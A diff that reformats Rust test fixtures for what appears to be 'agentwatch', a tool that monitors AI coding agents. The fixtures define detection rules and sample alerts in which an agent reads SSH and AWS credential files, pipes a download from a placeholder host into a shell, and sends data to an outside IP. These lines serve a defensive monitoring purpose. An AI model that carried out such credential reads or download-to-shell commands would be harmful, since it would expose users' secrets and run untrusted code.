@@ -3,8 +3,8 @@
 #![allow(dead_code)]
 
 use agent_model::{
-    AgentRef, Alert, BStr, Event, File, Kind, KindField, Monitor, Net, Parent, Process,
-    SessionRef, Severity, Timestamp,
+    AgentRef, Alert, BStr, Event, File, Kind, KindField, Monitor, Net, Parent, Process, SessionRef,
+    Severity, Timestamp,
 };
 use serde_json::{Value, json};
 use tui::backend::{Purpose, Update};
@@ -28,9 +28,7 @@ pub fn alert(i: usize, sev: Severity, rule: &str, summary: &str) -> Alert {
         agent: Some(AgentRef {
             name: "claude".into(),
         }),
-        session: Some(SessionRef {
-            id: SESSION.into(),
-        }),
+        session: Some(SessionRef { id: SESSION.into() }),
         summary: BStr::from(summary),
         tags: vec!["secrets".into()],
         event_ids: vec![format!("e-{i}")],
@@ -54,9 +52,7 @@ pub fn event(i: usize, kind: Kind, path: &str) -> Event {
         agent: Some(AgentRef {
             name: "claude".into(),
         }),
-        session: Some(SessionRef {
-            id: SESSION.into(),
-        }),
+        session: Some(SessionRef { id: SESSION.into() }),
         process: Process {
             pid: 4242,
             tid: 4242,
@@ -127,18 +123,18 @@ pub fn status(rate: f64) -> Value {
 
 pub fn rules() -> Value {
     json!({"ok": true,
-        "policy": {"source": "/etc/agentwatch/rules", "generation": 3, "last_error": null},
-        "rules": [
-            {"id": "secret-read", "severity": "high", "enabled": true,
-             "description": "an agent read a credential file", "kinds": ["file.open"],
-             "tags": ["secrets"], "mode": "alert", "defined_at": "rules/secrets.toml:3:1", "hits": 4},
-            {"id": "curl-pipe-shell", "severity": "critical", "enabled": true,
-             "description": "download piped into a shell", "kinds": ["process.exec"],
-             "tags": [], "mode": "alert", "defined_at": "rules/exec.toml:1:1", "hits": 1},
-            {"id": "new-listener", "severity": "low", "enabled": false,
-             "description": "a process listens on a port", "kinds": ["net.listen"],
-             "tags": [], "mode": "alert", "defined_at": "rules/net.toml:9:1", "hits": 0}
-        ]})
+    "policy": {"source": "/etc/agentwatch/rules", "generation": 3, "last_error": null},
+    "rules": [
+        {"id": "secret-read", "severity": "high", "enabled": true,
+         "description": "an agent read a credential file", "kinds": ["file.open"],
+         "tags": ["secrets"], "mode": "alert", "defined_at": "rules/secrets.toml:3:1", "hits": 4},
+        {"id": "curl-pipe-shell", "severity": "critical", "enabled": true,
+         "description": "download piped into a shell", "kinds": ["process.exec"],
+         "tags": [], "mode": "alert", "defined_at": "rules/exec.toml:1:1", "hits": 1},
+        {"id": "new-listener", "severity": "low", "enabled": false,
+         "description": "a process listens on a port", "kinds": ["net.listen"],
+         "tags": [], "mode": "alert", "defined_at": "rules/net.toml:9:1", "hits": 0}
+    ]})
 }
 
 pub fn sessions() -> Value {
@@ -152,12 +148,37 @@ pub fn sessions() -> Value {
 
 pub fn alerts_list() -> Vec<Alert> {
     let mut v = vec![
-        alert(1, Severity::High, "secret-read", "claude read ~/.ssh/id_rsa"),
-        alert(2, Severity::Critical, "curl-pipe-shell", "curl https://x.example | sh"),
-        alert(3, Severity::Medium, "egress-volume", "12 MiB sent to 203.0.113.7"),
+        alert(
+            1,
+            Severity::High,
+            "secret-read",
+            "claude read ~/.ssh/id_rsa",
+        ),
+        alert(
+            2,
+            Severity::Critical,
+            "curl-pipe-shell",
+            "curl https://x.example | sh",
+        ),
+        alert(
+            3,
+            Severity::Medium,
+            "egress-volume",
+            "12 MiB sent to 203.0.113.7",
+        ),
         alert(4, Severity::Low, "new-listener", "python3 listens on :8000"),
-        alert(5, Severity::Info, "agent-config-write", "wrote ~/.claude/settings.json"),
-        alert(6, Severity::High, "secret-read", "claude read ~/.aws/credentials"),
+        alert(
+            5,
+            Severity::Info,
+            "agent-config-write",
+            "wrote ~/.claude/settings.json",
+        ),
+        alert(
+            6,
+            Severity::High,
+            "secret-read",
+            "claude read ~/.aws/credentials",
+        ),
     ];
     v[0].count = 3;
     v[0].first_time = ts(-5);
